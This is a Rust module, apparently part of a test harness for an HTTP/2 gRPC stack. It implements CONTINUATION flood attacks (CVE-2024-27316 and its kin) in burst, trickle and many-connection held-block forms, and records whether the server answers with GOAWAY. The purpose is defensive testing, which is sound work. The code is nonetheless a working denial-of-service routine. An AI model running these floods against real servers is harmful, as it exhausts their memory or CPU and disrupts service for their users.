//! CONTINUATION floods (CVE-2024-27316 and its kin): a header block that
//! never ends. HEADERS without END_HEADERS, then CONTINUATION after
//! CONTINUATION; a server that keeps gathering the block holds memory (or
//! burns CPU on empty frames) for as long as the client likes.
//!
//! h2 counts the CONTINUATIONs of an unfinished block and answers GOAWAY
//! ENHANCE_YOUR_CALM `too_many_continuations` past its limit (5 under
//! hyper's 16 KiB header list size), and `header_list_way_too_large` once
//! the decoded fields pass twice that size. What sits in front of h2 (on
//! local connections, piperpc's `:authority` rewriter gathers header
//! blocks before h2 sees them) must not hold more than h2 would, or these
//! answers never come. Three shapes:
//!
//! - [`burst`]: HEADERS and a few CONTINUATIONs in one write, then
//!   silence: the answer must come from what was sent, not from a timer.
//! - [`trickle`]: the same with empty CONTINUATIONs, one write each, with
//!   pauses: nothing to hold but the count.
//! - [`hold_blocks`]: many connections each sending a large unfinished
//!   block: what the server holds across them.

use std::time::Duration;

use piperpc::Connector;

use crate::answer::{Answer, Ending};
use crate::conn::{Conn, Sent};
use crate::frame;
use crate::grpc::Request;
use crate::hpack::Block;

/// What h2 allows: CONTINUATIONs without END_HEADERS after a HEADERS
/// frame, under hyper's default 16 KiB header list size. One more is a
/// flood.
pub const H2_MAX_CONTINUATIONS: usize = 5;

/// The debug data of h2's GOAWAY for too many CONTINUATIONs.
pub const TOO_MANY_CONTINUATIONS: &str = "too_many_continuations";

/// The debug data of h2's GOAWAY for a header list far over its limit.
pub const HEADER_LIST_WAY_TOO_LARGE: &str = "header_list_way_too_large";

/// An unfinished header block sent on one connection.
#[derive(Clone, Debug)]
pub struct ContinuationFlood {
    /// CONTINUATION frames sent after the HEADERS, none with END_HEADERS.
    pub continuations: usize,
    /// Header block bytes in each CONTINUATION (0: empty frames, 9 bytes
    /// each on the wire).
    pub fragment: usize,
    /// The call the HEADERS starts.
    pub request: Request,
    /// Pause between frames in [`trickle`].
    pub pause: Duration,
    /// How long to wait for the server's SETTINGS and its answer.
    pub within: Duration,
}

impl Default for ContinuationFlood {
    /// One CONTINUATION over h2's limit, 64 bytes each.
    fn default() -> ContinuationFlood {
        ContinuationFlood {
            continuations: H2_MAX_CONTINUATIONS + 1,
            fragment: 64,
            request: Request::default(),
            pause: Duration::from_millis(20),
            within: crate::ANSWER_WITHIN,
        }
    }
}

/// What a CONTINUATION flood on one connection achieved.
#[derive(Clone, Debug)]
pub struct FloodReport {
    /// CONTINUATIONs written.
    pub continuations_sent: usize,
    /// Header block bytes written (HEADERS and CONTINUATION payloads).
    pub block_bytes: usize,
    /// What the server sent: a GOAWAY, or nothing.
    pub answer: Answer,
}

/// Header block bytes: small literal fields, one after another, to be cut
/// anywhere.
fn filler(len: usize) -> Vec<u8> {
    let mut block = Block::new();
    let mut field = 0;
    while block.len() < len {
        block = block.literal(&format!("x-filler-{field}"), b"0123456789abcdef");
        field += 1;
    }
    let mut bytes = block.into_bytes();
    bytes.truncate(len);
    bytes
}

/// HEADERS (the request, no END_HEADERS) and `continuations` CONTINUATIONs
/// of `fragment` bytes, in one write; then waits for the server to end the
/// connection.
pub async fn burst(conn: &mut Conn, attack: &ContinuationFlood) -> FloodReport {
    run(conn, attack, false).await
}

/// As [`burst`], one frame per write with [`ContinuationFlood::pause`]
/// between them, stopping early if the server ends the connection.
pub async fn trickle(conn: &mut Conn, attack: &ContinuationFlood) -> FloodReport {
    run(conn, attack, true).await
}

async fn run(conn: &mut Conn, attack: &ContinuationFlood, one_by_one: bool) -> FloodReport {
    let mut report = FloodReport {
        continuations_sent: 0,
        block_bytes: 0,
        answer: Answer::default(),
    };
    if conn.start(&[], attack.within).await {
        let first = attack.request.block();
        let filler = filler(attack.fragment * attack.continuations);
        let mut frames = vec![frame::headers(1, first.bytes(), false, false)];
        report.block_bytes += first.len();
        if attack.fragment == 0 {
            frames.extend((0..attack.continuations).map(|_| frame::continuation(1, &[], false)));
        } else {
            frames.extend(
                filler
                    .chunks(attack.fragment)
                    .map(|chunk| frame::continuation(1, chunk, false)),
            );
        }
        if one_by_one {
            for (index, bytes) in frames.iter().enumerate() {
                if !conn.send(bytes).await {
                    break;
                }
                if index > 0 {
                    report.continuations_sent += 1;
                    report.block_bytes += bytes.len() - frame::HEADER_LEN;
                }
                conn.drain().await;
                if conn.answer().ended() {
                    break;
                }
                tokio::time::sleep(attack.pause).await;
            }
        } else if conn.send(&frames.concat()).await {
            report.continuations_sent = attack.continuations;
            report.block_bytes += filler.len();
        }
        conn.wait_ended(attack.within).await;
    }
    report.answer = conn.answer().clone();
    report
}

/// Unfinished header blocks on many connections at once.
#[derive(Clone, Debug)]
pub struct HeldBlocks {
    /// Connections, each with its own block.
    pub connections: usize,
    /// Header block bytes each connection sends, never finished.
    pub block_bytes: usize,
    /// Payload of each frame (HEADERS, then CONTINUATIONs).
    pub frame_payload: usize,
    /// Value length of the literal fields the block is made of.
    pub value_len: usize,
    /// The call each block starts.
    pub request: Request,
    /// How long a write may take before the connection counts as stalled
    /// (the server stopped reading it).
    pub stall: Duration,
    /// How long to wait for each server's SETTINGS.
    pub within: Duration,
}

impl Default for HeldBlocks {
    /// 50 connections × 200 KiB, in 16 KiB frames of 1 KiB fields.
    fn default() -> HeldBlocks {
        HeldBlocks {
            connections: 50,
            block_bytes: 200 * 1024,
            frame_payload: 16 * 1024,
            value_len: 1024,
            request: Request::default(),
            stall: Duration::from_secs(5),
            within: crate::ANSWER_WITHIN,
        }
    }
}

/// Connections that have sent their unfinished blocks, still open: measure
/// the server now, then [`Holding::settle`].
#[derive(Debug)]
pub struct Holding {
    /// The connections.
    pub conns: Vec<Conn>,
    /// Header block bytes written, over all connections.
    pub bytes_sent: u64,
    /// Connections whose writes stalled.
    pub stalled: usize,
    /// Connections that could not be opened.
    pub connect_errors: Vec<String>,
}

/// How the held connections ended.
#[derive(Clone, Debug, Default)]
pub struct HeldReport {
    /// Connections opened.
    pub connections: usize,
    /// Ended with GOAWAY ENHANCE_YOUR_CALM.
    pub calmed: usize,
    /// Ended with another GOAWAY.
    pub other_goaway: usize,
    /// Closed without a GOAWAY.
    pub closed: usize,
    /// Still open, with no GOAWAY, when the wait ended.
    pub still_open: usize,
    /// Each connection's answer.
    pub answers: Vec<Answer>,
}

/// Opens [`HeldBlocks::connections`] connections through `connector`, each
/// sending an unfinished header block of [`HeldBlocks::block_bytes`];
/// returns them open.
pub async fn hold_blocks(connector: &Connector, attack: &HeldBlocks) -> Holding {
    let mut fields = attack.request.block();
    let mut field = 0;
    while fields.len() < attack.block_bytes {
        let value = vec![b'v'; attack.value_len];
        fields = fields.literal(&format!("x-held-{field}"), &value);
        field += 1;
    }
    let mut block = fields.into_bytes();
    block.truncate(attack.block_bytes);
    let frames = frame::header_block(1, &block, attack.frame_payload, false, false);
    let mut holding = Holding {
        conns: Vec::with_capacity(attack.connections),
        bytes_sent: 0,
        stalled: 0,
        connect_errors: Vec::new(),
    };
    for _ in 0..attack.connections {
        let mut conn = match connector.connect().await {
            Ok(stream) => Conn::new(stream),
            Err(error) => {
                holding.connect_errors.push(error.to_string());
                continue;
            }
        };
        if conn.start(&[], attack.within).await {
            let step = frame::HEADER_LEN + attack.frame_payload;
            for bytes in frames.chunks(step) {
                match conn.send_within(bytes, attack.stall).await {
                    Sent::Done => holding.bytes_sent += (bytes.len() - frame::HEADER_LEN) as u64,
                    Sent::Closed => break,
                    Sent::Stalled => {
                        holding.stalled += 1;
                        break;
                    }
                }
            }
        }
        holding.conns.push(conn);
    }
    holding
}

impl Holding {
    /// Waits, up to `within` in all, for every connection to end, and
    /// sorts them by how they ended.
    pub async fn settle(mut self, within: Duration) -> HeldReport {
        let deadline = tokio::time::Instant::now() + within;
        let mut report = HeldReport {
            connections: self.conns.len(),
            ..HeldReport::default()
        };
        for conn in &mut self.conns {
            let left = deadline.saturating_duration_since(tokio::time::Instant::now());
            conn.wait_ended(left).await;
            let answer = conn.answer().clone();
            match (&answer.goaway, &answer.closed) {
                (Some(_), _) if answer.calmed("") => report.calmed += 1,
                (Some(_), _) => report.other_goaway += 1,
                (None, Some(Ending::Eof | Ending::EofMidFrame | Ending::Error(_))) => {
                    report.closed += 1
                }
                (None, None) => report.still_open += 1,
            }
            report.answers.push(answer);
        }
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn filler_has_the_length_asked_for() {
        assert_eq!(filler(0).len(), 0);
        assert_eq!(filler(1000).len(), 1000);
    }
}
